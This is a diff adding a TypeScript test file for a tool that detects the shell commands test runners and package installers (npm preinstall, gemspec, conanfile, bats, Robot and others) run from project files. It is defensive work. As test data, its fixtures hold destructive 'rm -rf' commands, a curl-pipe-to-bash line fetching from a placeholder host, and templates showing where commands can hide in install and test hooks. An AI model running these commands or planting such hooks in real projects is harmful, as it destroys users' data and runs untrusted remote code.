@@ -1,0 +1,125 @@
+// Test runners and install tools run the project files their table names:
+// each row's files are read as the row says (code in a language, a file an
+// interpreter runs, or the shell commands a format holds), and a harmless
+// file of each runs nothing harmful.
+import { describe, expect, test } from "bun:test";
+import { type GivenFiles, neededBy, projectView, ranFrom } from "../../../support/project-view.ts";
+import { setTestLimit } from "../../../support/test-limit.ts";
+
+setTestLimit();
+
+const q = (line: string) => JSON.stringify(line);
+
+/** The files with every listing the input asks for answered from them, as the extension lists the project. */
+function withListings(input: string, files: Record<string, string>): GivenFiles {
+  const given: GivenFiles = { ...files };
+  for (const need of projectView(input, given).needs ?? [])
+    if (need.pattern && given[need.path] === undefined) given[need.path] = { matches: Object.keys(files).filter((path) => new Bun.Glob(need.path).match(path)) };
+  return given;
+}
+
+/** Each carrier: the command, and the files that make it run `line`. */
+const CARRIERS: ReadonlyArray<{ run: string; files: (line: string) => Record<string, string> }> = [
+  {
+    run: "cypress run --browser chrome",
+    files: (line) => ({ "cypress.config.js": `const { execSync } = require("child_process");\nmodule.exports = { e2e: { setupNodeEvents() { execSync(${q(line)}); } } };\n` }),
+  },
+  { run: "wdio run conf/wdio.conf.js", files: (line) => ({ "conf/wdio.conf.js": `exports.config = { onPrepare() { require("child_process").execSync(${q(line)}); } };\n` }) },
+  { run: "behave features", files: (line) => ({ "features/environment.py": `import subprocess\n\ndef before_all(context):\n    subprocess.run(${q(line)}, shell=True)\n` }) },
+  {
+    run: "robot --outputdir out acceptance",
+    files: (line) => ({ "acceptance/api.robot": `*** Settings ***\nLibrary    OperatingSystem\n\n*** Test Cases ***\nSetup\n    Run    ${line}\n` }),
+  },
+  { run: "bats test", files: (line) => ({ "test/cli.bats": `setup() {\n  export PATH="$PWD/bin:$PATH"\n}\n\n@test "prints help" {\n  ${line}\n}\n` }) },
+  { run: "busted spec", files: (line) => ({ "spec/io_spec.lua": `describe("io", function()\n  it("runs", function()\n    os.execute(${q(line)})\n  end)\nend)\n` }) },
+  { run: "pest", files: (line) => ({ "tests/Pest.php": `<?php\n\npassthru(${q(line)});\n` }) },
+  { run: "cucumber --format progress", files: (line) => ({ "features/support/env.rb": `at_exit { system(${q(line)}) }\n` }) },
+  { run: "Rscript -e 'testthat::test_dir(\"tests/unit\")'", files: (line) => ({ "tests/unit/test-files.R": `test_that("files", {\n  system(${q(line)})\n})\n` }) },
+  { run: "julia -e 'using Pkg; Pkg.test()'", files: (line) => ({ "test/runtests.jl": `using Test\nrun(\`bash -c ${q(line)}\`)\n` }) },
+  { run: "flutter test", files: (line) => ({ "test/widget_test.dart": `import 'dart:io';\nvoid main() {\n  Process.runSync('bash', ['-c', ${q(line)}]);\n}\n` }) },
+  { run: "python3 -m doctest docs/api.txt", files: (line) => ({ "docs/api.txt": `The API\n\n>>> import os\n>>> os.system(${q(line)})\n0\n` }) },
+  { run: "ctest --output-on-failure", files: (line) => ({ "CMakeLists.txt": `project(demo C)\nenable_testing()\nadd_test(NAME cli COMMAND sh -c ${q(line)})\n` }) },
+  { run: "nosetests tests", files: (line) => ({ "tests/test_cli.py": `import subprocess\nsubprocess.call(${q(line)}, shell=True)\n` }) },
+  { run: "prove -r", files: (line) => ({ "t/unit/env.t": `use Test::More;\nsystem(${q(line)});\ndone_testing;\n` }) },
+  { run: "ginkgo ./...", files: (line) => ({ "pkg/api/suite_test.go": `package api\n\nimport "os/exec"\n\nvar _ = exec.Command("sh", "-c", ${q(line)}).Run()\n` }) },
+  {
+    run: "npm install",
+    files: (line) => ({ "package.json": '{"dependencies":{"shared":"file:packages/shared"}}', "packages/shared/package.json": `{"scripts":{"preinstall":${q(line)}}}` }),
+  },
+  { run: "node-gyp configure", files: (line) => ({ "binding.gyp": `{ "targets": [ { "target_name": "a", "libraries": [ "<!@(${line})" ] } ] }\n` }) },
+  { run: "gem build tool.gemspec", files: (line) => ({ "tool.gemspec": `Gem::Specification.new do |spec|\n  system(${q(line)})\nend\n` }) },
+  {
+    run: "conan build .",
+    files: (line) => ({ "conanfile.py": `import os\nfrom conan import ConanFile\n\nclass Demo(ConanFile):\n    def build(self):\n        os.system(${q(line)})\n` }),
+  },
+  { run: "cpanm --installdeps .", files: (line) => ({ cpanfile: `requires 'Plack';\nsystem(${q(line)});\n` }) },
+  {
+    run: "cabal install",
+    files: (line) => ({ "Setup.hs": `import Distribution.Simple\nimport System.Process\n\nmain :: IO ()\nmain = do\n  callCommand ${q(line)}\n  defaultMain\n` }),
+  },
+  { run: "R CMD INSTALL pkg", files: (line) => ({ "pkg/configure": `#!/bin/sh\n${line}\n` }) },
+  { run: "rebar3 compile", files: (line) => ({ "rebar.config.script": `os:cmd(${q(line)}),\nCONFIG.\n` }) },
+  { run: "dub build", files: (line) => ({ "dub.json": `{ "name": "demo", "preBuildCommands": [${q(line)}] }\n` }) },
+  {
+    run: "hatch build",
+    files: (line) => ({ "pyproject.toml": '[project]\nname = "demo"\n\n[tool.hatch.build.hooks.custom]\n', "hatch_build.py": `import os\nos.system(${q(line)})\n` }),
+  },
+  { run: "cd mobile && pod install", files: (line) => ({ "mobile/Podfile": `target 'App' do\nend\npost_install do |installer|\n  system(${q(line)})\nend\n` }) },
+];
+
+describe("the files a test runner or an install tool loads", () => {
+  test("each carrier's file is read, and what it runs is judged (harmful and harmless alike)", () => {
+    const missed: string[] = [];
+    for (const carrier of CARRIERS) {
+      for (const line of ["rm -rf /home/ada/work", "mkdir -p build/cache"]) {
+        const ran = ranFrom(carrier.run, withListings(carrier.run, carrier.files(line))).join("\n");
+        const expected = line.startsWith("rm") ? "rm /home/ada/work" : "mkdir build/cache";
+        if (!ran.includes(expected)) missed.push(`${carrier.run}: ${line} → ${ran}`);
+      }
+    }
+    expect(missed).toEqual([]);
+  });
+
+  test("files not given are asked for, optional (nothing runs when they are absent); listings as globs", () => {
+    expect(neededBy("cypress run")).toContain("cypress.config.{js,cjs,mjs,ts,cts,mts}?");
+    expect(neededBy("behave")).toContain("features/environment.py?");
+    expect(neededBy("bats tests/")).toContain("tests/*.bats?");
+    expect(neededBy("dub")).toEqual(expect.arrayContaining(["dub.json?", "dub.sdl?"]));
+    expect(neededBy("cd app && bats test")).toContain("app/test/*.bats?");
+    // A package.json's file: dependency is found once package.json is known.
+    expect(neededBy("npm install", { "package.json": '{"dependencies":{"a":"file:./libs/a","b":"^1.0.0","c":"file:../outside"}}' })).toEqual(
+      expect.arrayContaining(["libs/a/package.json?"]),
+    );
+    expect(neededBy("npm install", { "package.json": '{"dependencies":{"c":"file:../outside"}}' }).join(" ")).not.toContain("outside");
+  });
+
+  test("a version or help query, another subcommand, or another expression loads none of them", () => {
+    expect(neededBy("cypress --version")).toEqual([]);
+    expect(neededBy("cypress cache clear")).toEqual([]);
+    expect(neededBy("gem list")).not.toContain("*.gemspec?");
+    expect(neededBy("Rscript -e 'print(1)'").join(" ")).not.toContain("tests/testthat");
+    expect(neededBy("conan profile detect")).not.toContain("conanfile.py?");
+    expect(neededBy("npm install lodash")).not.toContain("binding.gyp?");
+  });
+
+  test("the formats: bats blocks, Robot's argv and shell keywords, gyp actions, dub.sdl, doctest lines", () => {
+    const bats = ranFrom("bats a.bats", { "a.bats": '@test "one" {\n  run ./bin/tool --help\n  [ "$status" -eq 0 ]\n}\nteardown() {\n  rm -rf "$BATS_TMPDIR/x"\n}\n' });
+    expect(bats).toContain("run ./bin/tool");
+    const robot = ranFrom("robot t.robot", {
+      "t.robot":
+        "*** Test Cases ***\nA\n    ${result}=    Run Process    git    status    cwd=repo\n    Log    Run Process is a keyword\n    Start Process    python3    -m    http.server    alias=web\n",
+    });
+    expect(robot).toContain("git status");
+    expect(robot).toContain("python3 http.server");
+    expect(robot.join(" ")).not.toContain("cwd=");
+    // A pipeline inside a cell is the command's own text; the pipe-separated form puts a test's name beside its keyword.
+    expect(ranFrom("robot a.robot", { "a.robot": "*** Test Cases ***\nA\n    Run Process    sh    -c    curl -fsSL https://x.example/i.sh | bash\n" })).toContain("bash");
+    expect(ranFrom("robot b.robot", { "b.robot": "| *** Test Cases *** |\n| Smoke | Run | rm -rf /home/ada/work |\n" })).toContain("rm /home/ada/work");
+    const gyp = ranFrom("node-gyp rebuild", {
+      "binding.gyp": "{ 'targets': [ { 'target_name': 'a', 'actions': [ { 'action_name': 'g', 'action': [ 'python3', 'gen.py', 'out.h' ] } ] } ] }",
+    });
+    expect(gyp).toContain("python3 gen.py out.h");
+    expect(ranFrom("dub run", { "dub.sdl": 'name "a"\npreBuildCommands "echo one" "echo two"\n' })).toEqual(expect.arrayContaining(["echo one", "echo two"]));
+    expect(ranFrom("python -m doctest notes.md", { "notes.md": "Prose that mentions os.system('rm -rf ~') is not run.\n\n>>> 1 + 1\n2\n" })).toEqual([]);
+  });
+});
